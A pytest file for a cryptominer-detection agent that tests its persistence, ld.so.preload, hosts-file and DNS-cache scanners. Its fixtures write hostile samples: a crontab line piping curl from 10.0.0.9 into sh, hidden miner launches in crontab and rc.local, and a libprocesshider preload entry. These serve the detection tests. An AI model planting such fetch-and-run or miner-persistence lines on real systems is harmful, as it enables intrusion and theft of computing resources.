"""Persistence, hosts file, DNS cache and ld.so.preload: Linux on temp trees and this
machine's real paths; Windows sources from recorded fixtures."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from agent.detect import persistence
from agent.detect.engine import DetectionSettings, new_run
from agent.detect.scan_connections import dns_cache_findings, hosts_findings
from agent.detect.scanners import ld_preload
from agent.detect.scanners import persistence as persistence_scanner
from agent.platform.linux import persistence as persistence_linux
from agent.platform.windows import persistence as persistence_windows
from agent.platform.windows.dns import parse_displaydns
from agent.wire.report import Strength
from tests.fixtures.miners.bundles import detection_bundle
from tests.fixtures.miners.launch import WALLET

B = detection_bundle()
WIN = Path(__file__).resolve().parents[1] / "fixtures" / "windows_detect"


def _write(root: Path, rel: str, text: str) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_linux_tree(tmp_path, platform_as):
    platform_as("linux")
    _write(
        tmp_path,
        "etc/crontab",
        "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    )
    bad_cron = _write(
        tmp_path,
        "var/spool/cron/crontabs/www-data",
        "*/5 * * * * curl -fsSL http://10.0.0.9/x.sh | sh\n"
        f"@reboot /var/tmp/.ICE-unix/kswapd0 -o 10.0.0.9:443 -u {WALLET}\n",
    )
    _write(tmp_path, "etc/cron.d/anacron", "30 7 * * * root /usr/sbin/anacron -s\n")
    _write(
        tmp_path,
        "etc/systemd/system/ssh.service",
        "[Service]\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n",
    )
    hidden_unit = _write(
        tmp_path,
        "etc/systemd/system/dbus-helper.service",
        "[Service]\nExecStart=/dev/shm/.d/dbus-helper\n",
    )
    _write(tmp_path, "home/student/.bashrc", "alias ll='ls -l'\nexport PATH=$HOME/bin:$PATH\n")
    rc = _write(
        tmp_path,
        "etc/rc.local",
        "#!/bin/sh\nnohup /tmp/.x/xm --donate-level 1 -o stratum+ssl://1.2.3.4:443 &\n",
    )
    findings = persistence_scanner.run(new_run(B, DetectionSettings(root=str(tmp_path))))
    by_file = {f.subject.file: f for f in findings}
    assert set(by_file) == {str(bad_cron), str(hidden_unit), str(rc)}
    assert by_file[str(bad_cron)].strength == Strength.strong
    assert by_file[str(rc)].strength == Strength.strong
    assert by_file[str(hidden_unit)].strength == Strength.weak
    assert all(f.passive_hint for f in findings)


def test_ld_so_preload(tmp_path, platform_as):
    platform_as("linux")
    assert ld_preload.run(new_run(B, DetectionSettings(root=str(tmp_path)))) == []
    _write(tmp_path, "etc/ld.so.preload", "# nothing\n")
    assert ld_preload.run(new_run(B, DetectionSettings(root=str(tmp_path)))) == []
    _write(tmp_path, "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")
    (f,) = ld_preload.run(new_run(B, DetectionSettings(root=str(tmp_path))))
    assert f.kind == "ld_preload" and f.evidence == ["/usr/local/lib/libprocesshider.so"]


@pytest.mark.skipif(not os.path.isdir("/etc"), reason="POSIX only")
def test_this_machine_has_no_false_positive_persistence():
    entries = persistence_linux.all_entries("/")
    findings = [f for e in entries for f in persistence.analyze_entry(e, B)]
    assert [f for f in findings if f.strength == Strength.strong] == []


def test_hosts_file(tmp_path):
    hosts = _write(
        tmp_path,
        "hosts",
        "127.0.0.1 localhost\n0.0.0.0 pool.supportxmr.com\n"
        "203.0.113.5 xmr.f2pool.com  # redirect\n192.0.2.1 shop.notbtc.com\n",
    )
    (f,) = hosts_findings(B, str(hosts))
    assert f.subject.domain == "xmr.f2pool.com" and f.strength == Strength.weak


def _sources() -> persistence_windows.WindowsSources:
    reg = json.loads((WIN / "registry.json").read_text())
    return persistence_windows.WindowsSources(
        registry_values=lambda key: reg["values"].get(key, {}),
        registry_subkeys=lambda key: reg["subkeys"].get(key, []),
        schtasks_xml=lambda: (WIN / "schtasks.xml").read_text(encoding="utf-8"),
        wmi_consumers=lambda: json.loads((WIN / "wmi_consumers.json").read_text()),
        startup_dirs=lambda: [],
    )


def test_windows_sources_from_recorded_fixtures(platform_as):
    platform_as("windows")
    src = _sources()
    csv_tasks = persistence_windows.parse_schtasks_csv((WIN / "schtasks.csv").read_text())
    xml_tasks = persistence_windows.parse_schtasks_xml(
        (WIN / "schtasks.xml").read_text(encoding="utf-8")
    )
    assert [(t.name, t.command) for t in xml_tasks] == [(t.name, t.command) for t in csv_tasks]
    assert xml_tasks[-1].name == "\\Microsoft\\Windows\\WindowsUpdate\\SysUpdater"
    findings = persistence_scanner.run(
        new_run(B, DetectionSettings(root="/nonexistent", windows_sources=src))
    )
    strong = {
        (f.subject.persistence or "").split(":")[0] + ":" + f.kind
        for f in findings
        if f.strength == Strength.strong
    }
    assert strong == {
        "run_key:persistence_miner",
        "task:persistence_miner",
        "wmi:persistence_miner",
    }
    weak = {f.kind for f in findings if f.strength == Strength.weak}
    assert weak == {"persistence_suspicious", "defender_exclusion"}
    services = [f for f in findings if (f.subject.persistence or "").startswith("service")]
    assert {f.subject.registry_key.rsplit("\\", 1)[-1] for f in services} == {
        "WinRing0_1_2_0",
        "NetSvcUpdate",
    }
    defender = [f for f in findings if f.kind == "defender_exclusion"]
    assert {f.evidence[0] for f in defender} == {"C:\\ProgramData\\NetSvc", "netsvc.exe"}
    assert all(f.passive_hint for f in findings)


def test_windows_dns_cache_fixture():
    cache = parse_displaydns((WIN / "displaydns.txt").read_text())
    assert cache["pool.supportxmr.com"] == ["127.0.0.1", "198.51.100.23"]
    findings, ips = dns_cache_findings(B, cache)
    assert [f.subject.domain for f in findings] == ["pool.supportxmr.com"]  # not notbtc.com
    assert ips == {"127.0.0.1": "pool.supportxmr.com", "198.51.100.23": "pool.supportxmr.com"}


def test_windows_dns_cache_chinese_output():
    cache = parse_displaydns((WIN / "displaydns.zh.txt").read_text(encoding="utf-8"))
    assert cache == {"pool.supportxmr.com": ["198.51.100.23"], "www.baidu.com": []}


def test_a_failing_windows_source_does_not_hide_the_others(platform_as):
    platform_as("windows")
    from agent.collectors.base import ScanContext

    src = _sources()

    def broken():
        raise OSError("WMI service is not running")

    src.wmi_consumers = broken
    ctx = ScanContext()
    findings = persistence_scanner.run(
        new_run(B, DetectionSettings(root="/nonexistent", windows_sources=src), ctx)
    )
    assert {
        f.subject.persistence.split(":")[0] for f in findings if f.kind == "persistence_miner"
    } == {"run_key", "task"}
    assert [e.collector for e in ctx.errors] == ["persistence.wmi_subscriptions"]
    assert "OSError" in ctx.errors[0].detail


def test_resolver_is_off_by_default_bounded_and_cached(monkeypatch):
    import socket

    from agent.detect import scan_connections

    monkeypatch.delenv("MINECHECK_RESOLVE_POOLS", raising=False)
    assert DetectionSettings().resolver is None
    monkeypatch.setenv("MINECHECK_RESOLVE_POOLS", "1")
    assert DetectionSettings().resolver is scan_connections.resolve_all
    # only names the hosts file answers; never a real pool name in tests
    first = scan_connections.resolve_all(["localhost", "localhost"], 5.0)
    assert "127.0.0.1" in first["localhost"] or "::1" in first["localhost"]
    calls = []
    monkeypatch.setattr(socket, "getaddrinfo", lambda *a, **k: calls.append(a) or [])
    assert scan_connections.resolve_all(["localhost"], 5.0) == first  # from the cache
    assert calls == []
